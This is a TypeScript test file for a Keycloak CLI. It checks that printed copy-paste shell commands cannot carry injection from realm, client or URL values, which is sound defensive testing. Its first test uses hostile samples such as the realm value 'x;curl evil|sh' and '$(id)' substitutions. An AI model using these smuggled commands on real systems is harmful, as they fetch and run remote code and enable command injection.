import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { kcadm, kcadmRealm } from '../../packages/cli/src/doctor/check.ts';
import { judgeStranger } from '../../packages/cli/src/keycloak/finding.ts';
import { readProgram } from '../../packages/cli/src/source/read-program.ts';
import { type SyntaxNode, walk } from '../../packages/cli/src/source/syntax.ts';

// Commands that are printed to be copied into a shell. A realm, a client and an address can be those of a cloned repository.

const SOURCES = fileURLToPath(new URL('../../packages/cli/src', import.meta.url));
const COMMAND =
  /kcadm\.sh|npx keycloak-guard|keycloak-guard [a-z]+ --|curl -i|openssl|\bK(EY)?C(LOAK)?_[A-Z_]+=$|--http-relative-path=/;
/** Words of a shell already: `$(kcadm.sh …)`, a uuid in a path, a setting that this program chose. */
const READY = ['id', 'setting', 'flags', 'realmWord', 'queryWord', 'imports'];

test('hold what others chose as words that run nothing', () => {
  const caller = { realm: 'x;curl evil|sh', clientId: "y'$(id)" };
  const reach = { caller } as never;
  const url = 'http://keycloak/$(id)/realms/x;id';
  const answer = { url, status: 502, headers: new Headers(), text: '<p>', tookMs: 1, arrivedAt: 0 };
  const all = [
    kcadm(reach, `redirectUris+=http://x/'$(id)'`),
    kcadmRealm(caller.realm, 'enabled=true'),
    judgeStranger(answer)?.fix ?? '',
  ];
  for (const one of all) {
    const bare = one.replace(/'[^']*'|\\'/g, '').replace(/\$\(kcadm\.sh get clients [^()]*\)/, '');
    assert.doesNotMatch(bare, /[;|&`]|\$\(/, one);
  }
});

test('are made of such words wherever they are made', () => {
  const found: string[] = [];
  for (const file of readdirSync(SOURCES, { recursive: true, encoding: 'utf8' })) {
    if (!file.endsWith('.ts')) continue;
    const text = readFileSync(`${SOURCES}/${file}`, 'utf8');
    // To parse takes long, and most files write no command.
    if (!new RegExp(COMMAND, 'm').test(text.replaceAll('${', '\n'))) continue;
    const program = readProgram(text, file);
    for (const { node } of walk(program as SyntaxNode)) {
      if (node.type !== 'TemplateLiteral') continue;
      const quasis = node.quasis as { value: { raw: string } }[];
      let isCommand = false;
      for (const [at, one] of (node.expressions as SyntaxNode[]).entries()) {
        const before = quasis[at]?.value.raw ?? '';
        // A command ends with its line.
        isCommand =
          COMMAND.test(before.slice(before.lastIndexOf('\\n') + 1)) || (isCommand && !before.includes('\\n'));
        const isName = one.type === 'Identifier' && !READY.includes(String(one.name));
        if (isCommand && (isName || one.type === 'MemberExpression'))
          found.push(`${file}:${one.loc.start.line}`);
      }
    }
  }
  assert.deepEqual(found, []);
});
